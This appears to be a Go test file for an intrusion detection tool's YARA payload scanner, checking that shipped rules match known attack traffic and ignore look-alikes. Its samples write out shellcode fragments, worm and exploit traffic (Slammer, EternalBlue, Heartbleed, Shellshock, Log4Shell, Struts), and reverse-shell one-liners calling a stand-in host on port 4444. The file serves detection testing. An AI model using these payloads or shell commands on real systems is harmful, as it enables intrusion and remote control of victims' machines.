//go:build yara

package payload

import (
	"encoding/binary"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/komondor/komondor/event"
	"github.com/komondor/komondor/probe/packet"
)

// A sample is what a shipped rule was written for, or what is like it and harmless.
type sample struct {
	rule  string // empty: none may match
	port  uint16
	udp   bool
	bytes string
}

// smb is an SMBv1 message of a command, with nothing but zeros in its header.
func smb(command byte, body string) string {
	return "\x00\x00\x10\x00\xffSMB" + string([]byte{command}) + strings.Repeat("\x00", 27) + body
}

// le writes numbers of 32 bits as Windows does.
func le(numbers ...uint32) string {
	var b []byte
	for _, n := range numbers {
		b = binary.LittleEndian.AppendUint32(b, n)
	}
	return string(b)
}

func samples() []sample {
	a := func(n int) string { return strings.Repeat("A", n) }
	slammer := "\x04" + strings.Repeat("\x01", 96) + "\xdc\xc9\xb0\x42\xeb\x0e" + strings.Repeat("\x01", 60) +
		"Qh.dllhel32hkernQhounthickChGetTf\xb9llQh32.dhws2_f\xb9etQhsockf\xb9toQhsend\xbe\x18\x10\xaeB" +
		"\x31\xc9\x51\x51\x50\x81\xf1\x03\x01\x04\x9b\x81\xf1\x01\x01\x01\x01\x51"
	eternal := smb(0xa0, "\x14\x01\x00\x00"+le(30, 66512)+"\x1e\x00") + strings.Repeat("\x00", 900)
	hello := "\x16\x03\x01\x00\x2c\x01\x00\x00\x28\x03\x02" + strings.Repeat("r", 38)
	transaction := "\x0f" + strings.Repeat("\x0c\x00", 13) + "\x01\x00\x0e\x00"
	return []sample{
		{"shellcode_call_into_itself", 7000, false, "\x31\xc9\x83\xe9\xdd\xe8\xff\xff\xff\xff\xc0\x5e\x81\x76\x0e"},
		{"", 7000, false, "\xe8\xff\xff\xff\xff\x00\x00\xe8\x00\x00\x00\x00"},
		{"shellcode_fpu_decoder", 7000, false, "\xda\xc1\xd9\x74\x24\xf4\x5b\x2b\xc9\xb1\x52\x31\x43\x17"},
		{"shellcode_fpu_decoder", 7000, false, "\x33\xc9\xb1\x52\xda\xc1\xd9\x74\x24\xf4\x5b\x31\x43\x17"},
		{"", 7000, false, "\xd9\x74\x24\xf4\x00\x00\xb1\x52"},
		{"shellcode_jump_call_decoder", 7000, false, "\xeb\x0d\x5e\x31\xc9\xb1\x20\x80\x36\x41\x46\xe2\xfa\xeb\x05\xe8\xee\xff\xff\xff"},
		{"", 7000, false, "\xeb\x0d\x5e\x31\xc9\xb1\x20\x80\x36\x41\x46\xe2\xfa\xeb\x05\xe8\xee\x00\x00\x00"},
		{"shellcode_windows_modules", 7000, false, "\x31\xc0\x64\x8b\x50\x30\x8b\x52\x0c\x8b\x52\x14\x8b\x72\x28"},
		{"shellcode_windows_modules", 7000, false, "\x64\xa1\x30\x00\x00\x00\x8b\x40\x0c\x8b\x70\x1c"},
		{"shellcode_windows_modules", 7000, false, "\x65\x48\x8b\x52\x60\x48\x8b\x52\x18\x48\x8b\x52\x20"},
		{"shellcode_windows_modules", 7000, false, "\x65\x48\x8b\x04\x25\x60\x00\x00\x00\x48\x8b\x40\x18\x48\x8b\x70\x20"},
		{"", 7000, false, "\x64\xa1\x00\x00\x00\x00\x50\x64\x89\x25\x00\x00\x00\x00"}, // how a C++ function begins
		{"shellcode_linux_connected_shell", 7000, false, "\x89\xc3\x31\xc9\xb1\x02\xb0\x3f\xcd\x80\x49\x79\xf9"},
		{"shellcode_linux_connected_shell", 7000, false, "\x6a\x3f\x58\xcd\x80\x49\x79\xf8"},
		{"shellcode_linux_connected_shell", 7000, false, "\x48\xff\xce\x6a\x21\x58\x0f\x05\x75\xf6"},
		{"shellcode_egg_hunter", 7000, false, "\x66\x81\xca\xff\x0f\x42\x52\x6a\x02\x58\xcd\x2e\x3c\x05\x5a\x74\xef\xb8w00t"},

		{"overflow_ftp_argument", 21, false, "USER " + a(700) + "\r\n"},
		{"", 21, false, "CWD /" + strings.Repeat("long/", 80) + "\r\nRETR " + a(255) + "\r\n"},
		{"", 80, false, "USER " + a(700) + "\r\n"},
		{"overflow_mail_argument", 25, false, "HELO " + a(700) + "\r\n"},
		{"overflow_mail_argument", 110, false, "user " + a(450) + "\r\n"},
		{"", 25, false, "HELO mail.example\r\nDATA\r\n" + a(2000) + "\r\n.\r\n"},
		{"", 110, false, "APOP somebody c4c9334bac560ecc979e58001b3e22fb\r\n"},
		{"overflow_http_filler", 80, false, "GET /" + a(600) + " HTTP/1.0\r\n\r\n"},
		{"", 80, false, "GET /picture?data=" + a(3000) + " HTTP/1.1\r\n\r\n"},
		{"overflow_http_unicode", 80, false, "GET /x?%u9090%u9090%u8190%u00c3 HTTP/1.0\r\n\r\n"},
		{"format_string_store", 514, false, "%99$hn%12$hhn"},
		{"format_string_store", 80, false, "GET /%2512$n HTTP/1.0\r\n\r\n"},
		{"", 80, false, "GET /?q=100%25&n=$1 HTTP/1.0\r\n\r\n$('%d').next(5$n)"},
		{"format_string_store", 514, false, "%49150c%12$n"},
		{"", 514, false, "one of four bytes: %1$n, by chance"},
		{"format_string_walk", 514, false, "%08x.%08x.%08x.%08x.%hn"},
		{"", 514, false, "printf(\"%s %s %x%n\")"},
		{"", 514, false, "%x%x%x%x but no store"},

		{"worm_slammer", 1434, true, slammer},
		{"", 1435, true, slammer},
		{"", 1434, true, "\x04" + "MSSQLSERVER\x00"},
		{"exploit_sql_resolution", 1434, true, "\x04" + a(100)},
		{"worm_code_red", 80, false, "GET /default.ida?" + strings.Repeat("N", 224) + "%u6858=a HTTP/1.0\r\n"},
		{"worm_code_red", 80, false, "GET /default.ida?" + strings.Repeat("X", 224) + " HTTP/1.0\r\n"},
		{"", 80, false, "GET /default.ida?NNN HTTP/1.0\r\n"},
		{"worm_mirai", 23, false, "enable\r\nshell\r\n/bin/busybox MIRAI\r\n"},
		{"", 23, false, "/bin/busybox cat /proc/mounts\r\n/bin/busybox ls\r\n"},

		{"exploit_eternalblue", 445, false, eternal + smb(0x33, "\x09")},
		{"", 445, false, eternal},
		{"", 445, false, smb(0x33, "\x09") + eternal},
		{"", 445, false, smb(0xa0, "\x14\x01\x00\x00"+le(30, 4096)+"\x1e\x00") + smb(0x33, "\x09")},
		{"exploit_doublepulsar", 445, false, smb(0x32, transaction)},
		{"", 445, false, smb(0x32, strings.ReplaceAll(transaction, "\x0e", "\x05"))},
		{"exploit_smbghost", 445, false, "\x00\x00\x00\x40\xfcSMB" + le(0xffffffff, 1, 0x10) + "data"},
		{"", 445, false, "\x00\x00\x00\x40\xfcSMB" + le(4096, 1, 0x10) + "data"},
		{"exploit_netapi", 445, false, "\xc8\x4f\x32\x4b\x70\x16\xd3\x01\x12\x78\x5a\x47\xbf\x6e\xe1\x88" + strings.Repeat("\x00", 99) +
			"\\\x00a\x00\\\x00.\x00.\x00\\\x00.\x00.\x00\\\x00b\x00"},
		{"", 445, false, "\xc8\x4f\x32\x4b\x70\x16\xd3\x01\x12\x78\x5a\x47\xbf\x6e\xe1\x88\\\x00a\x00\\\x00.\x00.\x00\\\x00"},
		{"exploit_bluekeep", 3389, false, "\xc0\x0c\x00rdpdr\x00\x00\x00MS_T120\x00\x00\x00\x00\x00"},
		{"", 3389, false, "\xc0\x0c\x00rdpdr\x00\x00\x00\x00\x00\x80\x80cliprdr\x00"},
		{"exploit_heartbleed", 443, false, hello + "\x18\x03\x02\x00\x03\x01\x40\x00"},
		{"", 443, false, "\x18\x03\x02\x00\x03\x01\x40\x00"},
		{"", 443, false, hello + "\x18\x03\x02\x00\x17\x01\x00\x04ping0123456789abcdef"},
		{"exploit_shellshock", 80, false, "GET / HTTP/1.1\r\nUser-Agent: () { :;}; /usr/bin/id\r\n\r\n"},
		{"", 80, false, "POST / HTTP/1.1\r\nHost: x\r\n\r\nfunction f() { return }; var f = () => {}"},
		{"exploit_log4shell", 80, false, "GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://203.0.113.9/a}\r\n\r\n"},
		{"exploit_log4shell", 80, false, "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D HTTP/1.1\r\n\r\n"},
		{"exploit_log4shell", 80, false, "User-Agent: ${${lower:j}${::-n}${lower:d}i:ldap}"},
		{"", 80, false, "POST / HTTP/1.1\r\n\r\nconst a = `${name}: ${lower(b)}`; // jndi:ldap"},
		{"exploit_struts_content_type", 80, false, "GET / HTTP/1.1\r\nContent-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT).(#_memberAccess=#dm)}\r\n\r\n"},
		{"", 80, false, "GET / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=%{x}\r\n\r\n"},
		{"exploit_shell_over_network", 80, false, "cmd=bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
		{"exploit_shell_over_network", 80, false, "cmd=nc 203.0.113.9 4444 -e /bin/sh"},
		{"exploit_shell_over_network", 80, false, "mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"},
		{"", 80, false, "bash -i; cat /dev/tcp; nc -l 4444; mkfifo /tmp/f"},
	}
}

// name takes the rule out of an event.
func name(e event.Event) string {
	rule, _, _ := strings.Cut(e.Detail, ":")
	return rule
}

func TestShippedRules(t *testing.T) {
	met := map[string]bool{}
	k := newTalk(t, Config{Builtin: true})
	if w := k.scanner.Warnings(); len(w) > 0 {
		t.Errorf("warnings %q", w)
	}
	for i, s := range samples() {
		k.events = nil
		k.ends[1] = netip.AddrPortFrom(server.Addr(), s.port)
		k.next[0] += 1 << 20
		if s.udp {
			p := k.packet(0, 0, 0, s.bytes)
			p.Protocol = packet.UDP
			k.send(p)
		} else {
			k.handshake()
			k.say(0, s.bytes)
			k.scanner.Flush(k.emit)
		}
		var rules []string
		for _, e := range k.events {
			rules = append(rules, name(e))
			met[name(e)] = true
		}
		if s.rule == "" && len(rules) > 0 || s.rule != "" && !slices.Contains(rules, s.rule) {
			t.Errorf("sample %d: %q match, want %q", i, rules, s.rule)
		}
	}
	own, err := shipped()
	if err != nil {
		t.Fatal(err)
	}
	for _, source := range own {
		for _, m := range regexp.MustCompile(`(?m)^rule (\w+)`).FindAllStringSubmatch(source.text, -1) {
			if !met[m[1]] {
				t.Errorf("no sample matches %s of %s", m[1], source.name)
			}
		}
	}
}

// ruleFile writes a file of rules, with a time that differs from the last one's.
func ruleFile(t *testing.T, path, text string) {
	t.Helper()
	at := time.Now().Add(-time.Hour)
	if info, err := os.Stat(path); err == nil {
		at = info.ModTime().Add(time.Second)
	}
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(path, at, at); err != nil {
		t.Fatal(err)
	}
}

func TestRuleErrors(t *testing.T) {
	tests := []struct{ text, want string }{
		{"rule a {\n condition:\n  nonsense }", `a.yar:3: undefined identifier "nonsense" (1 in all): mend it`},
		{"rule a {\n strings:\n  $a = \"x\"\n condition: true }", "a.yar:4: unreferenced string"},
		{"\n\nrule a {", "a.yar:3: syntax error"},
		{"include \"/etc/passwd\"\nrule a { condition: true }", "a.yar:1: "},
		{"rule a { condition: true } rule a { condition: false }", "duplicated identifier"},
		{"rule a { meta: severity = \"urgent\" condition: true }", "a.yar:1: rule a: meta severity is urgent"},
		{"rule a { meta: kind = \"ids.alert.high\" condition: true }", "meta kind is ids.alert.high"},
		{"rule b { condition: true }\nprivate rule c { condition: true }\nrule\n a { meta: cve = \"none\" condition: b and c }", "a.yar:3: rule a: meta cve is none"},
		{"rule a { strings: $a = /(/ condition: $a }", "a.yar:1: invalid regular expression"},
	}
	for _, test := range tests {
		path := filepath.Join(t.TempDir(), "a.yar")
		ruleFile(t, path, test.text)
		if _, err := New(Config{Rules: []string{path}}); err == nil || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%q: error %v, want %q", test.text, err, test.want)
		}
	}
}

func TestReload(t *testing.T) {
	dir := t.TempDir()
	rule := func(name, text string) string {
		return "rule " + name + " { meta: severity = \"high\" strings: $a = \"" + text + "\" condition: $a }"
	}
	first, second := filepath.Join(dir, "a.yar"), filepath.Join(dir, "b.yara")
	ruleFile(t, first, rule("one", "needle"))
	k := newTalk(t, Config{Rules: []string{dir}})
	k.handshake()
	step := func(what string, changed bool, wrong string, matches ...string) {
		t.Helper()
		k.events = nil
		got, err := k.scanner.Reload()
		if got != changed || (err == nil) != (wrong == "") || err != nil && !strings.Contains(err.Error(), wrong) {
			t.Fatalf("%s: changed %v, error %v; want %v, %q", what, got, err, changed, wrong)
		}
		p := k.packet(0, 0, 0, "hay needle thread hay")
		p.Protocol = packet.UDP
		k.send(p)
		var found []string
		for _, e := range k.events {
			found = append(found, name(e))
			if e.Kind != event.PayloadHigh || e.Vulnerability != "yara:"+name(e) {
				t.Errorf("event %+v", e)
			}
		}
		if !slices.Equal(found, matches) {
			t.Errorf("%s: %q match, want %q", what, found, matches)
		}
	}
	step("nothing new", false, "", "one")
	ruleFile(t, second, rule("one", "thread")) // the same name in another file
	step("a file more", true, "", "one", "one")
	ruleFile(t, first, rule("other", "needle"))
	step("another rule", true, "", "other", "one")
	ruleFile(t, first, "rule broken {")
	step("a mistake", false, "a.yar:1: syntax error", "other", "one")
	step("the same mistake", false, "", "other", "one")
	os.Remove(first)
	step("taken out", true, "", "one")
	os.Remove(second)
	step("none left", false, "no file that ends in .yar", "one")
	step("still none", false, "", "one")
	ruleFile(t, first, rule("back", "needle"))
	step("back again", true, "", "back")
}

// A scan that takes too long is given up, and the next one works.
func TestTimeout(t *testing.T) {
	path := filepath.Join(t.TempDir(), "slow.yar")
	ruleFile(t, path, `rule slow { condition: port == 1 and for all i in (0..100000) : (for all j in (0..100000) : (i + j >= 0)) }
rule quick { strings: $a = "needle" condition: $a }`)
	k := newTalk(t, Config{Rules: []string{path}})
	for port := range uint16(3) {
		p := k.packet(0, 0, 0, "needle")
		p.Protocol, p.TargetPort = packet.UDP, port
		k.send(p)
	}
	if s := k.scanner.Stats(); s.TimedOut != 1 || s.Failed != 0 || len(k.events) < 2 {
		t.Errorf("stats %+v, %d events", s, len(k.events))
	}
}

func TestManyMatches(t *testing.T) {
	var text strings.Builder
	for i := range 40 {
		text.WriteString("rule r" + strings.Repeat("x", i) + " { condition: true }\n")
	}
	path := filepath.Join(t.TempDir(), "all.yar")
	ruleFile(t, path, text.String())
	k := newTalk(t, Config{Rules: []string{path}})
	k.handshake()
	k.say(0, "anything")
	k.scanner.Advance(k.now.Add(3*time.Second), k.emit)
	k.say(0, "more")
	k.scanner.Flush(k.emit)
	if s := k.scanner.Stats(); len(k.events) != matchesMost || s.Crowded != 1 || s.Scans != 1 {
		t.Errorf("%d events, stats %+v", len(k.events), s)
	}
}
